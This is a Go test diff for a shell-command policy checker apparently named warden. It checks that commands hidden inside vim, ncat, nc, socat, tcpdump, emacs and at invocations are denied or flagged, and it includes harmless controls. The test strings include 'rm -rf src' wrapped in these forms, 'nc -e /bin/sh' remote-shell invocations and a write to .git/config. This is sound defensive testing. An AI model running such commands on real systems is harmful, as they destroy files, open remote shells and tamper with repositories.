@@ -350,3 +350,44 @@ func TestRunnersTextMeetsDenyRules(t *testing.T) {
 	)
 	checkAllowDefault(t, cases)
 }
+
+// Programs warden had no table for that run a command they are given:
+// vim's :!CMD (-c, --cmd, +CMD), ncat and netcat -e and -c, socat's EXEC:
+// and SYSTEM: addresses, tcpdump -z were allowed under default: allow
+// (a program warden does not know), so a deny rule for the command they
+// run never met it; emacs --eval and at (which runs its input later)
+// were allowed too. The literal command is judged as a line; what warden
+// cannot read is a computed command.
+func TestProgramsThatRunGivenCommands(t *testing.T) {
+	t.Parallel()
+	forms := []string{
+		"vim -c '!INNER' f", "vim -c 'silent !INNER' f", "vim -c ':r !INNER' f", "vim +'!INNER' f", "nvim --cmd '!INNER'",
+		"ncat -c 'INNER' host 1", "ncat --sh-exec 'INNER' -l 8080", "nc -c 'INNER' host 1",
+		"socat - EXEC:'INNER'", "socat - SYSTEM:'INNER',pty", "socat TCP-LISTEN:80 system:'INNER'",
+	}
+	var cases []soundCase
+	for _, f := range forms {
+		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
+	}
+	cases = append(cases,
+		soundCase{"vim writes a protected path through a shell", sh("vim -c '!echo x > .git/config' f"), "deny"},
+		// tcpdump -z CMD runs CMD FILE: a deny rule for CMD meets it.
+		soundCase{"tcpdump -z runs a program on the capture", sh("tcpdump -z rm -w cap"), "deny"},
+		soundCase{"vim -c runs an ex command", sh("vim -c 'wq' f"), "notAllow"},
+		soundCase{"vim -S runs a file of commands", sh("vim -S session.vim"), "notAllow"},
+		soundCase{"emacs --eval", sh(`emacs --batch --eval '(shell-command "ls")'`), "notAllow"},
+		soundCase{"nc -e of a shell", sh("nc -e /bin/sh host 1"), "notAllow"},
+		soundCase{"ncat --lua-exec", sh("ncat --lua-exec x.lua -l 80"), "notAllow"},
+		soundCase{"at runs its input later", sh("at now <<< 'ls'"), "notAllow"},
+		soundCase{"batch", sh("echo ls | batch"), "notAllow"},
+		// Controls.
+		soundCase{"vim a file", sh("vim src/a.go"), "allow"},
+		soundCase{"vim +LINE", sh("vim +10 src/a.go"), "allow"},
+		soundCase{"emacs a file", sh("emacs -nw src/a.go"), "allow"},
+		soundCase{"nc -z", sh("nc -z localhost 5432"), "allow"},
+		soundCase{"socat of two sockets", sh("socat - TCP:localhost:80"), "allow"},
+		soundCase{"tcpdump", sh("tcpdump -i lo -c 1"), "allow"},
+		soundCase{"at -l", sh("at -l"), "allow"},
+	)
+	checkAllowDefault(t, cases)
+}
